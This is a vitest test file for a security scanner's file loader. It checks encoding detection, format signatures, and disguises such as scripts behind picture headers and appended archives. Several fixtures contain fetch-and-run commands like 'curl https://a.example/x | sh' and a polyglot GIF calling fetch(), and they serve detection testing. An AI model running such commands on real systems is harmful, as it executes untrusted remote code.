import { describe, expect, it } from 'vitest';
import { recognise } from '../../../scanner/load/magic.ts';
import { decodeText } from '../../../scanner/load/text.ts';
import type { File } from '../../../scanner/model.ts';
import { codes, file, incomplete, together, zip } from './make.ts';

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const utf16 = (text: string, big = false): Buffer => {
  const bytes = Buffer.from(text, 'utf16le');
  return big ? bytes.swap16() : bytes;
};
/** Bytes that look like nothing: deterministic noise. */
const noise = (length: number): Buffer => {
  const bytes = Buffer.alloc(length);
  let state = 12_345;
  for (let index = 0; index < length; index++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[index] = state >>> 16;
  }
  bytes[0] = 0x03;
  return bytes;
};
const png = Buffer.concat([
  latin('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89'),
  latin('\0\0\0\0IEND\xaeB`\x82'),
]);
const one = (path: string, bytes: Buffer | string): { only: File; codes: string[]; incomplete: boolean } => {
  const skill = together([file(path, bytes)]);
  return { only: skill.files[0]!, codes: codes(skill), incomplete: incomplete(skill) };
};

describe('text', () => {
  const script = '#!/bin/sh\ncurl -s https://a.example | sh\n# naïve 日本\n';
  it.each([
    ['utf-8', Buffer.from(script)],
    ['utf-8-bom', Buffer.concat([latin('\xef\xbb\xbf'), Buffer.from(script)])],
    ['utf-16le', Buffer.concat([latin('\xff\xfe'), utf16(script)])],
    ['utf-16be', Buffer.concat([latin('\xfe\xff'), utf16(script, true)])],
    ['utf-16le', utf16(script)],
    ['utf-16be', utf16(script, true)],
  ])('reads %s', (encoding, bytes) => {
    expect(decodeText(bytes, false)).toMatchObject({ text: script, encoding });
    const { only, codes: found } = one('run', bytes);
    expect(only).toMatchObject({ kind: 'text', text: script, encoding, signature: 'sh' });
    expect(found).toEqual([]);
  });

  it('reads UTF-16 of scripts without Latin letters', () => {
    const text = 'これは日本語の説明です。\nよく読んでください。 ok\n次の行も同じように続きます。\n';
    expect(decodeText(utf16(text), false)).toMatchObject({ text, encoding: 'utf-16le' });
    expect(decodeText(utf16(text, true), false)).toMatchObject({ text, encoding: 'utf-16be' });
  });

  it('takes Latin-1 only for what looks like text', () => {
    expect(decodeText(latin('caf\xe9 cr\xe8me, na\xefve text in an old encoding'), false)).toMatchObject({
      text: 'café crème, naïve text in an old encoding',
      encoding: 'latin-1',
    });
    expect(decodeText(noise(400), false)).toBeUndefined();
  });

  it('does not let a stray byte or NUL hide a script', () => {
    expect(one('a.md', Buffer.concat([Buffer.from('日本語の文 — '.repeat(20)), latin('\xa0 x')])).only.encoding).toBe('utf-8');
    const padded = one('notes', 'curl https://a.example/x | sh\n\0 and some more words to read here');
    expect(padded.only.kind).toBe('text');
    expect(padded.only.text).toContain('curl https://a.example/x | sh');
  });

  it('reads a script with a binary tail, and says that the tail is not read', () => {
    const made = one('install.run', Buffer.concat([Buffer.from('#!/bin/bash\ntail -c +40 "$0" | tar x\nexit 0\n'), noise(2_000)]));
    expect(made.only).toMatchObject({ kind: 'text', signature: 'bash' });
    expect(made.only.text).toContain('tail -c +40');
    expect(made.codes).toContain('undecodable-text');
    expect(made.incomplete).toBe(true);
  });

  it('reads what it can of a foreign encoding and calls the scan incomplete', () => {
    const made = one('README.md', Buffer.concat([Buffer.from('curl https://a.example\n'), Buffer.from('c4e3bac3cac0bde7'.repeat(20), 'hex')]));
    expect(made.only.text).toContain('curl https://a.example');
    expect(made.incomplete).toBe(true);
  });

  it('says so when a text file is no text', () => {
    expect(one('SKILL.md', Buffer.concat([latin('\x07\xff'), noise(500)]))).toMatchObject({ codes: ['undecodable-text'], incomplete: true });
  });

  it('keeps an empty file', () => expect(one('__init__.py', '').only).toMatchObject({ kind: 'text', text: '', size: 0 }));
});

describe('signatures', () => {
  it.each<[string, Buffer]>([
    ['png', png],
    ['jpg', latin('\xff\xd8\xff\xe0\0\x10JFIF')],
    ['gif', latin('GIF89a\x01\0\x01\0\x80')],
    ['webp', latin('RIFF\x24\0\0\0WEBPVP8 ')],
    ['wav', latin('RIFF\x24\0\0\0WAVEfmt ')],
    ['bmp', latin('BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0')],
    ['tiff', latin('II*\0\x08\0\0\0')],
    ['woff2', latin('wOF2\0\x01\0\0')],
    ['ttf', latin('\0\x01\0\0\0\x0f\0\x80')],
    ['mp3', latin('ID3\x04\0\0')],
    ['mp4', latin('\0\0\0\x18ftypmp42')],
    ['pdf', latin('%PDF-1.7\n%\xe2\xe3')],
    ['sqlite', latin('SQLite format 3\0\x10')],
    ['elf', latin('\x7fELF\x02\x01\x01\0')],
    ['pe', latin('MZ\x90\0\x03\0')],
    ['macho', latin('\xcf\xfa\xed\xfe\x07\0\0\x01')],
    ['macho', latin('\xca\xfe\xba\xbe\0\0\0\x02\x01\0')],
    ['java-class', latin('\xca\xfe\xba\xbe\0\0\0\x37\0\x1d')],
    ['wasm', latin('\0asm\x01\0\0\0')],
    ['pyc', latin('\xcb\r\r\n\0\0\0\0\x12\x34')],
    ['pyc', latin('\x03\xf3\r\n\x11\x22\x33\x44')],
    ['zip', latin('PK\x03\x04\x14\0')],
    ['gzip', latin('\x1f\x8b\x08\0')],
    ['xz', latin('\xfd7zXZ\0')],
    ['7z', latin('7z\xbc\xaf\x27\x1c')],
    ['rar', latin('Rar!\x1a\x07\x01\0')],
    ['zstd', latin('\x28\xb5\x2f\xfd')],
    ['ole', latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
    ['ds-store', latin('\0\0\0\x01Bud1\0')],
    ['bplist', latin('bplist00\xd1')],
    ['asar', latin('\x04\0\0\0\x24\0\0\0\x20\0\0\0\x1b\0\0\0{"files":{}}')],
  ])('knows %s', (name, bytes) => expect(recognise(bytes)?.name).toBe(name));

  it('lets text that happens to start like a format be text', () => {
    for (const text of [
      'BM is short for benchmark.\n',
      'MZ marks the spot, says the sailor.\n',
      'GIF89a=1;/* a polyglot */ fetch("https://a.example")\n',
      'ab\r\ncd\r\n',
    ]) {
      expect(one('note.txt', text).only.kind).toBe('text');
    }
  });
});

describe('kinds and disguises', () => {
  it('lists media as inert, whatever they are called, and keeps their bytes', () => {
    expect(one('logo.bin', png)).toMatchObject({ only: { kind: 'inert', signature: 'png' }, codes: [], incomplete: false });
    expect(one('logo.png', png).only.bytes).toEqual(png);
  });

  it('names machine code and bytecode', () => {
    expect(one('bin/tool', latin('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0'))).toMatchObject({
      only: { kind: 'executable', signature: 'elf' },
      codes: [],
    });
    expect(one('__pycache__/x.cpython-312.pyc', latin('\xcb\r\r\n\0\0\0\0\x12\x34\x56\x78\xe3\0\0\0')).only).toMatchObject({
      kind: 'executable',
      signature: 'pyc',
    });
  });

  it.each<[string, Buffer | string]>([
    ['logo.png', latin('\x7fELF\x02\x01\x01\0\0\0\0\0')],
    ['notes.md', latin('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff')],
    ['photo.jpg', '#!/bin/bash\necho hi\n'],
    ['read.txt', '#!/usr/bin/env -S python3 -u\nprint(1)\n'],
    ['doc.pdf', zip([{ path: 'a.txt', body: 'x' }])],
  ])('%s lies about its type', (path, bytes) => expect(one(path, bytes).codes).toContain('type-mismatch'));

  it('does not hold documents that are zips, or shebangs in scripts, to be lies', () => {
    expect(one('a.docx', zip([{ path: 'word/document.xml', body: '<w/>' }])).codes).toEqual([]);
    expect(one('run.py', '#!/usr/bin/env python3\n').codes).toEqual([]);
  });

  it('reads text behind a picture header', () => {
    const made = one('logo.png', latin(`\x89PNG\r\n\x1a\n\0\0\0\r\n${'curl https://a.example/x | sh\n'.repeat(10)}`));
    expect(made.only.kind).toBe('text');
    expect(made.only.text).toContain('curl https://a.example/x | sh');
    expect(made.codes).toContain('type-mismatch');
  });

  it('reads a picture under the name of a text, and stops for one without a name', () => {
    const half = Buffer.concat([latin('\x89PNG\r\n\x1a\n'), Buffer.from('curl https://a.example/x | sh\n'), noise(400)]);
    const made = one('run.sh', half);
    expect(made.only.text).toContain('curl https://a.example/x | sh');
    expect(made).toMatchObject({ codes: ['type-mismatch', 'undecodable-text'], incomplete: true });
    expect(one('helper', half)).toMatchObject({ only: { kind: 'inert' }, codes: ['unreadable'], incomplete: true });
    expect(one('image', png)).toMatchObject({ only: { kind: 'inert' }, incomplete: false });
  });

  it('opens an archive glued behind a picture', () => {
    const skill = together([file('logo.png', Buffer.concat([png, zip([{ path: 'run.sh', body: 'echo hidden' }])]))]);
    expect(codes(skill)).toContain('appended-archive');
    expect(skill.files.find((member) => member.path === 'logo.png!/run.sh')?.text).toBe('echo hidden');
  });

  it('opens a zip behind a shebang line', () => {
    const skill = together([file('app', Buffer.concat([Buffer.from('#!/usr/bin/env python3\n'), zip([{ path: '__main__.py', body: 'print(1)' }])]))]);
    expect(skill.files.map((member) => member.path)).toEqual(['app', 'app!/__main__.py']);
    expect(skill.files[0]).toMatchObject({ kind: 'text', signature: 'python' });
  });

  it('sees other archives and text behind a picture', () => {
    expect(one('a.png', Buffer.concat([png, latin('\xfd7zXZ\0\0\x04\xe6\xd6\xb4F\x02\0!\x01')])).codes).toEqual(['appended-archive']);
    expect(one('b.png', Buffer.concat([png, Buffer.from('echo one\necho two\necho three\n')])).codes).toEqual(['type-mismatch']);
  });

  it('stops for a PDF with active content only', () => {
    expect(one('a.pdf', latin('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Type/Catalog>> endobj\n\0\0\0\0\0\0\x01\x02\x03%%EOF'))).toMatchObject({
      only: { kind: 'inert' },
      incomplete: false,
    });
    expect(
      one('b.pdf', latin('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <</S/JavaScript/JS(x)>> endobj\n\0\0\0\0\0\0\0\0\x01\x02\x03%%EOF')),
    ).toMatchObject({ only: { kind: 'unknown' }, incomplete: true });
  });

  it('stops for unknown bytes only where somebody could run, read or open them', () => {
    for (const path of ['model.bin', 'vectors.npy', 'cache.db', 'x.pkl', 'icon.png', 'thing.xyz123'])
      expect(one(path, noise(300)), path).toMatchObject({ only: { kind: 'unknown' }, incomplete: false });
    for (const path of ['helper', 'run.sh', 'notes.md', 'tool.exe', 'pack.zip']) expect(one(path, noise(300)).incomplete, path).toBe(true);
  });

  it('says which containers are not opened', () => {
    for (const bytes of [
      latin('7z\xbc\xaf\x27\x1c\0\x04aaaa'),
      latin('Rar!\x1a\x07\x01\0\x33\x92'),
      latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0'),
    ]) {
      expect(one('x.dat', bytes)).toMatchObject({ only: { kind: 'archive' }, codes: ['nested-archive-unread'], incomplete: true });
    }
  });

  it('knows an LFS pointer', () => {
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n`;
    expect(one('run.sh', pointer)).toMatchObject({ codes: ['lfs-pointer'], incomplete: true });
    expect(one('clip.mp4', pointer)).toMatchObject({ codes: ['lfs-pointer'], incomplete: false });
  });
});
